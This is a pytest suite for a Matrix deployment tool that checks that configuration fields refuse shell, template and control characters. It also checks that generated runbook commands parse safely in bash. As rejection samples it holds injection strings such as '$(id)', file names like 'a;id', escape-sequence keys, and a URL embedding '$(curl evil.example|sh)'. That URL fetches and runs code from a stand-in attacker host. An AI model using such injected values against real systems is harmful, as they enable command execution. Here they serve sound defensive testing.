"""Text that people paste and programs read: each field's alphabet, and that a value never leaves its place.

Every field of the inventory that holds text is found by walking the model, so that a new one is tried as soon as it is
there. A field either has an alphabet without the signs of shells, templates and configuration languages, or it is free
text and stands in FREE with the places that it may reach.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import types
import typing
from collections.abc import Iterator
from functools import cache
from html import unescape
from pathlib import Path
from typing import Annotated, Any

import pytest
import yaml
from pydantic import BaseModel, TypeAdapter, ValidationError

from fleets import TOP, Repository
from matrixfleet.checks import Tree
from matrixfleet.cli.compile import read_fleet
from matrixfleet.cli.secrets import told as secrets_told
from matrixfleet.errors import FleetError
from matrixfleet.model import Fleet
from matrixfleet.model.fleet import NamespaceTarget, PlatformTarget, TenantTarget
from matrixfleet.model.turn import TurnUri
from matrixfleet.model.types import Address, Cidr, Email, Host, HttpsUrl, HttpUrl, Line, Text
from matrixfleet.plan import plan_of
from test_backups import BACKUP
from test_plan import PROD, changed, drawn
from test_properties import WORDS

Leaf = tuple[str, Any]


def leaves(annotation: Any, extra: tuple[Any, ...], path: str, seen: set[type], kind: type = str) -> Iterator[Leaf]:
    """Every place below a type that holds text (or another kind): its path, and the type that validates it."""
    while typing.get_origin(annotation) is Annotated:
        annotation, *more = typing.get_args(annotation)
        extra = (*extra, *more)
    origin, arguments = typing.get_origin(annotation), typing.get_args(annotation)
    if origin in (types.UnionType, typing.Union):
        for one in arguments:
            yield from leaves(one, extra, path, seen, kind)
    elif origin is tuple:
        yield from leaves(arguments[0], (), path, seen, kind)
    elif origin is dict:
        yield from leaves(arguments[0], (), f"{path} (key)", seen, kind)
        yield from leaves(arguments[1], (), path, seen, kind)
    elif isinstance(annotation, type) and issubclass(annotation, BaseModel):
        if annotation not in seen:
            seen.add(annotation)
            for name, field in annotation.model_fields.items():
                yield from leaves(field.annotation, tuple(field.metadata), f"{annotation.__name__}.{name}", seen, kind)
    elif annotation is kind or (kind is str and annotation in (Any, object)):
        yield path, Annotated[(annotation, *extra)] if extra else annotation


def all_leaves(kind: type = str) -> dict[str, Any]:
    """Those of every target's model."""
    seen: set[type] = set()
    models = (TenantTarget, PlatformTarget, NamespaceTarget)
    return dict(leaf for model in models for leaf in leaves(model, (), "", seen, kind))


LEAVES = all_leaves()


@cache
def adapter(path: str) -> TypeAdapter[Any]:
    return TypeAdapter(LEAVES[path])


def takes(path: str, value: Any) -> bool:
    """Whether a field takes a value."""
    try:
        adapter(path).validate_python(value)
    except ValidationError:
        return False
    return True


# Held against the model of a tenant when a tenant names the size.
UNREAD = {"PlatformTarget.sizes", "PlatformTarget.sizes (key)"}
WITH_AUTHORITY = ("AppService", "ExternalDatabase", "LogStore", "Mail", "Module", "OidcProvider", "S3", "S3Bucket")
SEVERAL_LINES = {"Consent.text", *(f"{name}.ca" for name in WITH_AUTHORITY)}
JSON, HOMESERVER = "config.json and manifest.json of Element Web", "homeserver.yaml"
FREE = {
    "Branding.brand": JSON,
    "Branding.default_theme": f"{JSON}; one of the themes that are there",
    "Branding.footer_links (key)": JSON,
    "Theme.name": JSON,
    "OidcProvider.name": HOMESERVER,
    "OidcProvider.requirements": HOMESERVER,
    "Consent.name": f"{HOMESERVER}, and policy.html as text",
    "Consent.text": "policy.html as text",
    "Consent.block": f"{HOMESERVER}, a format of Python's with one name",
    "Module.config": f"{HOMESERVER}, keys that the release lists",
    "Module.config (key)": f"{HOMESERVER}, keys that the release lists",
    "SynapseModule.keys": "nothing: it is compared",
    "Tenant.moves": "nothing: it is compared",
    "Platform.moves": "nothing: it is compared",
    "TurnSpec.annotations": "annotations of a Service",
    "StorageClassSpec.parameters": "parameters of a StorageClass",
    "Acme.dns01": "a ClusterIssuer",
    "Acme.dns01 (key)": "a ClusterIssuer",
}
"""Fields of free text, and where that goes."""
NASTY = """a'b "c" $(id) `id` ${HOME} {{ .Labels }} %[env(HOME)] \\d; | & # é漢"""
SIGNS = "'\"$`\\|<>{}^! \t"
UNSEEN = "\x00\x07\x0b\x1b\x7f\x85\xa0\xad\u200b\u200d\u200e\u2028\u2029\u202e\u2066\u2800\u3164\ufeff\U000e0041"
EXAMPLES = [
    "2026-12-31",
    "1.36",
    *(word for word in WORDS if "\n" not in word),
    *("a", "eu-central-1", "app.kubernetes.io/name", "ops@example.com", "#chat", "registry.example.com/a/b", "SIGTERM"),
    *(
        "/var/lib",
        "NET_ADMIN",
        "refs/heads/main",
        "ebs.csi.aws.com",
        "rgba(0, 0, 0, 1)",
        "{{ user.name }}",
        "namespace/name",
    ),
    *("arn:aws:acm:eu-central-1:123456789012:certificate/0a1b", "sha256:" + "0" * 64, "http://loki.example.com:3100"),
    *("turn:turn.example.net:3478?transport=udp", "a.B", "*/5 1-3,7 * * *", "https://example.com/a%20b?c=d&e=(f)#g"),
]


def examples(path: str) -> list[str]:
    """Values that a field takes."""
    found = [word for word in EXAMPLES if takes(path, word)]
    assert found or path in SEVERAL_LINES, f"{path}: EXAMPLES has nothing for it"
    return found


def spoilt(words: list[str], sign: str) -> Iterator[str]:
    """Good values with a sign in each place that matters."""
    for word in (*words, ""):
        yield from (
            sign + word,
            word + sign,
            word[:1] + sign + word[1:],
            word[: len(word) // 2] + sign + word[len(word) // 2 :],
        )


FIELDS = sorted(set(LEAVES) - UNREAD)


def test_fields_are_found() -> None:
    assert len(FIELDS) > 100
    assert {"Consent.text", "Peer.pods (key)", "ExternalTurn.uris", "Image.repository", "Reach.cidrs"} <= set(FIELDS)


def test_every_field_has_an_alphabet_or_a_reason() -> None:
    """A plain `str` takes NASTY: it must say here where that goes."""
    assert {path for path in FIELDS if takes(path, NASTY)} == set(FREE)


@pytest.mark.parametrize("path", FIELDS)
def test_nobody_hides_in_a_line(path: str) -> None:
    """Control characters, what is drawn as nothing, and what turns the direction: in no field of one line or more."""
    signs = UNSEEN + ("" if path in SEVERAL_LINES else "\n\r")
    for sign in signs:
        for value in spoilt(examples(path), sign):
            assert not takes(path, value), repr(value)


@pytest.mark.parametrize("path", sorted(set(FIELDS) - set(FREE)))
def test_an_alphabet_has_no_signs_of_programs(path: str) -> None:
    """Shells, Go's and Jinja's templates, HAProxy, nginx, INI, SQL, HTML."""
    free = {"Mapping.": SIGNS, "BackupSpec.": " ", "SharedArchive.": " ", "Theme.colors": " "}
    signs = set(SIGNS) - {sign for start, signs in free.items() if path.startswith(start) for sign in signs}
    for sign in sorted(signs):
        for value in spoilt(examples(path), sign):
            assert not takes(path, value), repr(value)


@pytest.mark.parametrize("path", sorted(set(FIELDS) - set(FREE)))
def test_digits_are_those_of_ascii(path: str) -> None:
    for word in examples(path):
        other = word.translate({ord(str(digit)): 0x0660 + digit for digit in range(10)})
        assert other == word or path.startswith("Mapping.") or not takes(path, other), other


def test_a_number_is_one() -> None:
    """Infinity and NaN are no numbers of JSON's."""
    for path, kind in all_leaves(float).items():
        owner = path.partition(".")[0]
        model = next(one for one in everything(BaseModel) if one.__name__ == owner)
        for value in (float("inf"), float("-inf"), float("nan")):
            with pytest.raises(ValidationError):
                TypeAdapter(kind, config=None).validate_python(value)
                model.model_validate({path.partition(".")[2]: value})


def everything(model: type[BaseModel]) -> Iterator[type[BaseModel]]:
    """Every model of the inventory."""
    for one in model.__subclasses__():
        yield one
        yield from everything(one)


def refused(kind: Any, value: Any) -> str:
    """What is said of a value; "" where it is taken."""
    try:
        TypeAdapter(kind).validate_python(value)
    except ValidationError as error:
        return str(error.errors()[0]["msg"])
    return ""


URLS = [
    "https://example.com",
    "https://example.com:8443/a/b.c?x=%C3%A4&y=(1)#f/g?h",
    "https://kubernetes.default.svc",
    "https://10.0.0.1:6443/",
    "https://[2001:db8::1]:443/",
    "https://xn--bcher-kva.example/~user/;p=1,2/*",
]
NO_URLS = {
    "https://user@example.com/": "no user or password in it: credentials are Secrets",
    "https://user:pass@example.com/": "no user or password in it: credentials are Secrets",
    "https://example.com@evil.example/": "no user or password in it: credentials are Secrets",
    "https://Example.com/A": "did you mean https://example.com/A?",
    "HTTPS://example.com/": "did you mean https://example.com/?",
    "https://example.com/$(id)": "'$' is percent-encoded (%24)",
    "https://example.com/`id`": "'`' is percent-encoded (%60)",
    "https://example.com/'": '"\'" is percent-encoded (%27)',
    'https://example.com/"': "'\"' is percent-encoded (%22)",
    "https://example.com/!!": "'!' is percent-encoded (%21)",
    "https://example.com/a b": "' ' is percent-encoded (%20)",
    "https://example.com/a\\b": "'\\\\' is percent-encoded (%5C)",
    "https://example.com/{a}": "'{' is percent-encoded (%7B)",
    "https://example.com/<a>": "'<' is percent-encoded (%3C)",
    "https://example.com/a|b": "'|' is percent-encoded (%7C)",
    "https://example.com/^": "'^' is percent-encoded (%5E)",
    "https://example.com/\n": "one line, no spaces",
    "https://bücher.example/": "punycode",
    "https://example.com/ä": "percent-encoded (%C3%A4)",
    **dict.fromkeys(
        [
            *("https://", "https:///a", "https://:443/", "https://example.com:0/", "https://example.com:65536/"),
            *("https://example.com:/", "https://example.com:0443/", "https://example.com:8a/", "https://a..example/"),
            *(
                "https://-a.example/",
                "https://a-.example/",
                "https://a_b.example/",
                "https://example.com./",
                "https://.a/",
            ),
            *(
                "https://127.1/",
                "https://0x7f.0.0.1/",
                "https://2130706433/",
                "https://010.0.0.1/",
                "https://1.2.3.256/",
            ),
            *("https://[::1/", "https://::1/", "https://[fe80::1%25eth0]/", "https://[::ffff:10.0.0.1]/"),
            *("https://[2001:DB8::1]/x%", "https://[v1.a]/", "https://example.com/%0d%0a", "https://example.com/%00"),
            *(
                "https://example.com/%zz",
                "https://example.com/%7f",
                "https://example.com/%",
                f"https://{'a' * 64}.example/",
            ),
            *(
                "https://example.com/[a]",
                "https://example.com#a#b",
                "https:/example.com",
                f"https://example.com/{'a' * 2048}",
            ),
        ],
        "",
    ),
}


@pytest.mark.parametrize("url", URLS)
def test_a_url_is_taken(url: str) -> None:
    assert refused(HttpsUrl, url) == refused(HttpUrl, url) == ""
    assert refused(HttpUrl, url.replace("https", "http")) == ""
    assert refused(HttpsUrl, url.replace("https", "http")).startswith("expected an https:// address, got ")


@pytest.mark.parametrize("url", NO_URLS)
def test_what_is_no_url_is_refused(url: str) -> None:
    for kind in (HttpsUrl, HttpUrl):
        said = refused(kind, url)
        assert said.startswith("expected an http") and NO_URLS[url] in said, said


def test_a_wrong_url_is_told_at_its_line(tmp_path: Path) -> None:
    repository = Repository(tmp_path)
    path = "inventory/targets/eu1/chess-club.yml"
    logo = "https://example.com/$(curl evil.example|sh)"
    repository.write(path, repository.read(path).replace("brand: Chess Club", f'logo: "{logo}"'))
    with pytest.raises(FleetError) as told:
        read_fleet(tmp_path).target("eu1.chess-club")
    where = f"{path}:14: matrix.element.branding.logo"
    assert str(told.value) == f"{where}: expected an https:// address, got {logo!r}; '$' is percent-encoded (%24)"


NETWORKS = {
    "fe80::1%eth0": "fe80::1",
    "::ffff:10.0.0.1": "10.0.0.1",
    "::ffff:a00:1": "10.0.0.1",
    "2001:DB8::1": "2001:db8::1",
    "2001:db8:0:0:0:0:0:1": "2001:db8::1",
    "2001:0db8::1": "2001:db8::1",
}
NO_NETWORKS = {
    "fe80::%eth0/64": "fe80::/64",
    "fe80::1%1/64": "fe80::/64",
    "::ffff:10.0.0.0/104": "10.0.0.0/8",
    "::ffff:169.254.169.254/128": "169.254.169.254/32",
    "2001:DB8::/32": "2001:db8::/32",
    "2001:db8:0::/48": "2001:db8::/48",
    "10.0.0.0/255.0.0.0": "10.0.0.0/8",
    "10.0.0.0/0.255.255.255": "10.0.0.0/8",
    "10.0.0.1/8": "10.0.0.0/8",
    "10.0.0.1": "10.0.0.1/32",
    "2001:db8::1": "2001:db8::1/128",
}
OTHERS = [
    "10.1",
    "010.0.0.1",
    "0x0a000001",
    "10.0.0.0/33",
    "10.0.0.0/8/8",
    "1.2.3.4 ",
    "٣.0.0.0/8",
    "",
    167772160,
    True,
    None,
]


def test_an_address_has_one_spelling() -> None:
    """In every field that holds an address or a network, those of keys too."""
    addresses = [path for path in FIELDS if refused(LEAVES[path], "x").startswith("expected an IP address")]
    networks = [path for path in FIELDS if refused(LEAVES[path], "x").startswith("expected a network")]
    assert {"Relay.external_addresses (key)", "TurnSpec.external_address"} <= {
        path.replace("TurnSpec.external_addresses", "Relay.external_addresses") for path in addresses
    }
    assert {
        "Peer.cidrs",
        "Reach.cidrs",
        "AdminApi.allow",
        "Network.private",
        "Network.nodes",
        "ApiServer.cidrs",
    } <= set(networks)
    for path in addresses:
        assert takes(path, "2001:db8::1")
        for value, meant in NETWORKS.items():
            assert refused(LEAVES[path], value).endswith(f"; did you mean {meant}?"), (path, value)
    for path in networks:
        assert takes(path, "2001:db8::/32") and takes(path, "::/0")
        for value, meant in NO_NETWORKS.items():
            assert refused(LEAVES[path], value).endswith(f"; did you mean {meant}?"), (path, value)
    for value in OTHERS:
        assert refused(Address, value) and refused(Cidr, value), value


@pytest.mark.parametrize(
    ("kind", "good", "bad"),
    [
        (
            Host,
            ["chat.example.com", "xn--bcher-kva.de", "a.b1"],
            ["10.0.0.1", "a.0x1", "a.1", "A.de", "a..b", "a.b.", "-a.b"],
        ),
        (
            Email,
            ["ops@example.com", "a.b+c_d-e@x.example.com", "A1@B.example"],
            [
                "a@b",
                "a@1.2.3.4",
                '"a"@b.de',
                "a;b@c.de",
                "a..b@c.de",
                ".a@b.de",
                "a@b..de",
                "a b@c.de",
                "a%b@c.de",
                "a@b@c.de",
            ],
        ),
        (
            TurnUri,
            [
                "turn:turn.example.net",
                "turns:turn.example.net:5349?transport=tcp",
                "turn:203.0.113.7:3478",
                "turn:[2001:db8::1]",
            ],
            [
                "turn:a_b.example",
                "turn:a.example:0",
                "turn:a.example:65536",
                "turn:[fe80::1%1]",
                "turn:a.example?x=y",
                "stun:a.b",
            ],
        ),
        (Line, ["Acme äß 漢 😀❤\ufe0f", NASTY], ["", " a", "a ", "a\nb", "a" * 256, "a\u202eb", "a\ufe01b"]),
        (Text, ["a\n\nb\n"], ["", " \n", "a\r\nb", "a\x00", "a\tb", "a\u2066", "a" * 65537]),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_words_of_a_kind(kind: Any, good: list[str], bad: list[str]) -> None:
    assert [value for value in good if refused(kind, value)] == []
    assert [value for value in bad if not refused(kind, value)] == []


@pytest.mark.parametrize("name", ["a;id", "$(id)", "-rf", "A", "a b", "ünï", "a_b", "a'b", "a" * 64])
def test_a_file_has_a_name_that_goes_into_commands(name: str, tmp_path: Path) -> None:
    repository = Repository(tmp_path)
    text = repository.read("inventory/targets/eu1/chess-club.yml").replace("chess", "other")
    repository.write(f"inventory/targets/eu1/{name}.yml", text)
    with pytest.raises(FleetError, match="the name of a target is the file's: expected a DNS label"):
        plan_of(read_fleet(tmp_path), f"eu1.{name}")


def test_a_fault_is_one_line_whatever_the_key_is(tmp_path: Path) -> None:
    repository = Repository(tmp_path)
    path = "inventory/targets/eu1/chess-club.yml"
    key = "a\\e[31m\\u202e\\n{path}:1: matrix: all is well"
    repository.write(path, repository.read(path) + f'    "{key}": 1\n')
    with pytest.raises(FleetError) as told:
        read_fleet(tmp_path).target("eu1.chess-club")
    (line,) = str(told.value).splitlines()
    assert line.startswith(f"{path}:15: matrix.a\\x1b[31m\\u202e\\n") and line.isprintable()


TITLE = NASTY.replace("<", "").replace(">", "")
EVERYWHERE = [
    (
        ("matrix", "element", "branding"),
        {
            "brand": TITLE,
            "footer_links": {TITLE: "https://example.com/a;b(c)?d=e&f"},
            "themes": [{"name": TITLE, "colors": {"accent-color": "rgba(0, 0, 0, 1)"}}],
            "default_theme": f"custom-{TITLE}",
        },
    ),
    (
        ("matrix", "auth"),
        {
            "kind": "oidc",
            "providers": {
                "sso": {
                    "preset": "keycloak",
                    "name": NASTY,
                    "issuer": "https://sso.example.com/a;b(c)?d=e&f",
                    "client_id": "m",
                    "requirements": {"group": [NASTY]},
                }
            },
        },
    ),
    (
        ("matrix", "consent"),
        {
            "version": "1.0",
            "name": NASTY,
            "text": f"{NASTY}\n\n{NASTY}",
            "block": f"{NASTY.replace('%', '')} %(consent_uri)s",
        },
    ),
    (("matrix", "modules"), [{"module": "a.Module", "config": {NASTY: [NASTY, {NASTY: NASTY}]}}]),
    (("releases", "stable", "modules"), {"a.Module": {"keys": [NASTY]}}),
    (
        ("matrix", "turn"),
        {"kind": "deployment", "external_address": "203.0.113.9", "annotations": {"example.com/balancer": NASTY}},
    ),
    (("cluster", "storage", "logs"), {"name": "logs", "provisioner": "csi.example.com", "parameters": {"kind": NASTY}}),
    (("cluster", "issuers", "web", "acme", "dns01"), {"webhook": {"config": {NASTY: NASTY}}}),
]
REACHED = {
    ("ConfigMap", "matrix-prod-synapse", "homeserver.yaml"),
    ("ConfigMap", "matrix-prod-synapse", "policy.html"),
    ("ConfigMap", "matrix-prod-synapse", "agreed.html"),
    ("ConfigMap", "matrix-prod-element", "config.json"),
    ("ConfigMap", "matrix-prod-element", "manifest.json"),
    ("Service", "matrix-prod-turn", "metadata"),
    ("StorageClass", "logs", "parameters"),
    ("ClusterIssuer", "letsencrypt", "spec"),
}


@cache
def nasty() -> Tree:
    """A tenant that says NASTY wherever it may."""
    return drawn(changed(Fleet.read(TOP / "inventory"), *EVERYWHERE))


def strings(data: Any) -> Iterator[str]:
    """Every text in a document, keys too."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield str(key)
            yield from strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from strings(value)
    elif isinstance(data, str):
        yield data


def test_free_text_reaches_its_places_alone() -> None:
    """And no script, configuration of another program, page of commands, argument or variable."""
    reached, mark = set(), "env(HOME)"
    for entry in nasty().entries.values():
        for part, value in entry.doc.items():
            inner = value.items() if part == "data" else [(part, value)]
            reached |= {
                (entry.kind, entry.name, name) for name, one in inner if any(mark in text for text in strings(one))
            }
    assert reached == REACHED
    pages = {path: text for path, text in nasty().texts.items() if not path.endswith(".yaml")}
    assert pages and not any(mark in text for text in pages.values())


def test_free_text_is_whole_where_it_goes() -> None:
    tree = nasty()

    def data(name: str) -> dict[str, str]:
        entry = tree.find("eu1", "ConfigMap", "matrix-prod", name)
        assert entry is not None
        return typing.cast(dict[str, str], entry.doc["data"])

    synapse, element = data("matrix-prod-synapse"), data("matrix-prod-element")
    config = yaml.safe_load(synapse["homeserver.yaml"])
    (provider,) = config["oidc_providers"]
    assert provider["idp_name"] == NASTY
    assert provider["attribute_requirements"] == [{"attribute": "group", "one_of": [NASTY]}]
    assert config["user_consent"]["policy_name"] == NASTY
    assert config["modules"] == [{"module": "a.Module", "config": {NASTY: [NASTY, {NASTY: NASTY}]}}]
    web = json.loads(element["config.json"])
    assert web["brand"] == TITLE and json.loads(element["manifest.json"])["name"] == TITLE
    assert web["branding"]["auth_footer_links"][0]["text"] == TITLE
    page = synapse["policy.html"]
    assert unescape(page).count(NASTY) >= 3
    rest = re.sub(r"(?s)\{%.*?%\}|\{\{.*?\}\}|<style>.*?</style>", "", page)
    assert "{" not in rest and "$(id)" in rest and '"c"' not in rest and "'b" not in rest


# The values that shells read otherwise, and that these fields take.
ENDPOINT = "https://s3.example.net:9000/a(b)*c;d&e=~f?g#h"
ELSEWHERE = "https://s3.example.org/(i)&j;k*?l=m"
PASTED = [
    (("matrix", "backup"), {**BACKUP, "lock": 14, "bucket": {**BACKUP["bucket"], "endpoint": ENDPOINT}}),
    (("matrix", "backup", "second"), {**BACKUP["second"], "endpoint": ELSEWHERE}),
]
PROGRAMS = ("kubectl", "aws", "age", "rclone", "tar", "export", "now=", "primary=")


def commands(page: str) -> Iterator[str]:
    """Each block of commands in a page: indented lines that begin with one, and `kubectl ...` within a line."""
    block: list[str] = []
    for line in [*page.splitlines(), ""]:
        inner = line.strip()
        if line.startswith("    ") and (block or inner.startswith(PROGRAMS)) and not inner.startswith("{"):
            block.append(inner)
        elif block:
            yield "\n".join(block)
            block = []
    yield from re.findall(r"`((?:kubectl|aws|age|matrix-fleet) [^`]+)`", page)


def words(command: str) -> list[list[str]]:
    """The words of every aws, rclone and kubectl in a command, as bash hands them on: those programs are ours."""
    ours = "".join(
        f"{name}() {{ printf '%s\\0' {name} \"$@\"; printf '\\n\\0'; }}; " for name in ("aws", "rclone", "age", "tar")
    )
    done = subprocess.run(["bash", "-c", ours + command], capture_output=True, text=True, check=True, cwd="/")
    return [call.strip("\0").split("\0") for call in done.stdout.split("\n\0") if call.strip("\0")]


def pages(fleet: Fleet) -> dict[str, str]:
    return {path: text for path, text in drawn(fleet).texts.items() if path.endswith(".md")}


def test_every_command_of_a_page_is_one_of_bash(tree: Tree, fleet: Fleet) -> None:
    found = [text for path, text in tree.texts.items() if path.endswith(".md")]
    found += pages(changed(fleet, *PASTED)).values()
    blocks = [block for page in found for block in commands(page)]
    assert len(blocks) > 40
    for block in blocks:
        done = subprocess.run(["bash", "-n"], input=block, capture_output=True, text=True, check=False)
        assert done.returncode == 0 and not done.stderr, f"{block}\n{done.stderr}"


def test_every_value_arrives_as_one_word(fleet: Fleet) -> None:
    (page,) = (text for path, text in pages(changed(fleet, *PASTED)).items() if path.endswith("recovery.md"))
    called = [call for block in commands(page) if re.match("aws|export", block) for call in words(block)]
    endpoints = [call[call.index("--endpoint-url") + 1] for call in called if call[0] == "aws"]
    assert sorted(set(endpoints)) == sorted([ENDPOINT, ELSEWHERE]) and len(endpoints) >= 5
    (copied,) = (call for call in called if call[0] == "rclone")
    assert copied[1:3] == ["copy", "--server-side-across-configs"] and len(copied) == 5
    assert all(f"endpoint='{ENDPOINT}'" in word for word in copied[3:])


def test_what_secrets_prints_can_be_pasted() -> None:
    for target in ("eu1.matrix-prod", "us1.research", "ap1.tenant-a"):
        for line in secrets_told(TOP, target).splitlines():
            kind, _, command = line.strip().partition("  ")
            if kind == "fill":
                subprocess.run(["bash", "-n"], input=command, text=True, check=True)
                assert all(re.fullmatch(r"[\w.:/@%+=,{}\"$ -]+|\|", word) for word in shlex.split(command)), command


def shell_blocks() -> dict[str, str]:
    """Commands in docs/ and README.md, by page and number."""
    found = {}
    for path in [TOP / "README.md", TOP / "argocd/README.md", *sorted((TOP / "docs").rglob("*.md"))]:
        text = path.read_text()
        blocks = re.findall(r"(?ms)^ *```(?:text|sh|bash|shell)\n(.*?)^ *```", text)
        blocks = [block for block in blocks if re.match(r" *(kubectl|export|make|git|argocd|aws|\.venv)", block)]
        blocks += re.findall(r"`(kubectl [^`\n]+)`", text)
        found |= {f"{path.relative_to(TOP)} {number}": block for number, block in enumerate(blocks)}
    return found


def test_the_commands_of_the_documentation_are_bashs() -> None:
    assert len(shell_blocks()) > 30
    for where, block in shell_blocks().items():
        done = subprocess.run(["bash", "-n"], input=block, capture_output=True, text=True, check=False)
        assert done.returncode == 0, f"{where}\n{block}\n{done.stderr}"


def test_the_pages_name_what_runs(fleet: Fleet) -> None:
    """A page without the attack's values is there too."""
    assert any(
        "--endpoint-url https://" in text for text in pages(changed(fleet, (("matrix", "backup"), BACKUP))).values()
    )
    assert PROD in fleet.names
